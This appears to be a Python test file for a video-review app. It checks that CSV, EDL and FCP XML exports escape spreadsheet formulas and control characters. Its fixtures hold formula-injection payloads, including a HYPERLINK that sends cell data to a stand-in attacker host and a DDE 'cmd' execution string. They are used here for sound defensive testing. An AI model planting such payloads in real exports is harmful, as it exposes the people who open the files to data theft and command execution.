"""Every text that reaches a CSV, EDL or FCP XML export is made safe for that format: no cell a spreadsheet
runs as a formula, in any column; no control character that breaks XML or starts a bogus EDL line; and the
files still read back with their own libraries."""

from __future__ import annotations

import csv
import io
from fractions import Fraction

import opentimelineio as otio
import pytest
from sqlalchemy import select

from rushes.media.edit_decisions import CutSheet, NoteMark, ShotCut, write
from rushes.store import models as m
from rushes.web.app import create_app
from tests.integration.conftest import api_client

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE_AUTHORS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                   "\tTAB", "\rCR", " =1+1", "＝1+1"]
HOSTILE_TEXT = "grade\x0b jumps \x01\x1b[31m here\x7f\x85 and \x0c\x1f end"
ADAPTER = {"otio": "otio_json", "edl": "cmx_3600", "fcpxml": "fcp_xml"}


@pytest.fixture(scope="module")
def world(two_studios, tmp_path_factory):
    rushes, ours, theirs = two_studios(tmp_path_factory.mktemp("export-injection"))
    app = create_app(rushes, run_worker=False, load_demo=False)
    take_id, scene_id = ours.ids["take_id"], ours.ids["scene_id"]
    with rushes.db.session() as session:
        session.execute(m.ReviewIssue.__table__.delete())
        slot = session.scalar(select(m.TakeSlot).where(m.TakeSlot.take_id == take_id).order_by(m.TakeSlot.position))
        slot.code = "=1A\x0c"
        session.get(m.Scene, scene_id).title = "Night\x1b[2J \x08shift"
        for n, author in enumerate(HOSTILE_AUTHORS):
            session.add(m.ReviewIssue(scene_id=scene_id, take_id=take_id, shot_id=slot.shot_id, clip_id=slot.clip_id,
                                      scene_time=0.5 + n * 0.25, shot_time=0.5 + n * 0.25, category="timing",
                                      description=f"{author} {HOSTILE_TEXT}", stage=7, author_name=author,
                                      frame=12 + n * 6))
    yield rushes, app, ours
    rushes.db.dispose()


def _export(rushes, app, take_id: int, fmt: str) -> str:
    with api_client(rushes, "reviewer", app=app) as reviewer:
        answer = reviewer.get(f"/api/takes/{take_id}/export/{fmt}")
    assert answer.status_code == 200, answer.text[:300]
    return answer.text


def test_no_csv_cell_in_any_column_starts_a_formula(world):
    rushes, app, ours = world
    rows = list(csv.reader(io.StringIO(_export(rushes, app, ours.ids["take_id"], "csv"))))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE_AUTHORS) and all(len(r) == len(header) for r in body)
    for row in body:
        for column, cell in zip(header, row):
            assert not cell.startswith(FORMULA_STARTS) and not cell.lstrip(" ").startswith(FORMULA_STARTS), (column, cell)
            assert not any(ord(c) < 32 and c not in "\t\n" for c in cell), (column, cell)
    authors = [r[header.index("author")] for r in body]
    assert authors[0] == "'" + HOSTILE_AUTHORS[0]  # quoted as text, not dropped
    assert {r[header.index("shots")] for r in body} == {"'=1A"}


@pytest.mark.parametrize("fmt", ["edl", "fcpxml", "otio"])
def test_timelines_with_control_characters_in_notes_stay_valid_and_read_back(world, fmt):
    rushes, app, ours = world
    text = _export(rushes, app, ours.ids["take_id"], fmt)
    assert not any(ord(c) < 32 and c not in "\t\n\r" for c in text)
    timeline = otio.adapters.read_from_string(text, ADAPTER[fmt])
    markers = [mk for clip in timeline.find_clips() for mk in clip.markers]
    assert len(markers) == len(HOSTILE_AUTHORS)
    assert all("grade jumps" in mk.name.lower() and "end" in mk.name.lower() for mk in markers)
    if fmt == "edl":
        events = [line for line in text.splitlines() if line[:3].isdigit()]
        assert len(events) == len(list(timeline.find_clips()))  # no bogus event from a note's line break


def test_the_writers_survive_every_character_a_note_can_hold():
    every = "".join(chr(c) for c in range(0xA0)) + "\ud800\udfff\ufffe\uffff"
    sheet = CutSheet(f"scene {every}", Fraction(24), [ShotCut(1, f"1A{every}", 0, 48, None)],
                     [NoteMark(1, 3, 4, 1, "timing", 7, "open", every, every)])
    for fmt in ("edl", "fcpxml", "otio"):
        out = write(sheet, fmt)
        out.encode("utf-8")  # no lone surrogate left
        timeline = otio.adapters.read_from_string(out, ADAPTER[fmt])
        assert len([mk for c in timeline.find_clips() for mk in c.markers]) == 1
    rows = list(csv.reader(io.StringIO(write(sheet, "csv"))))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
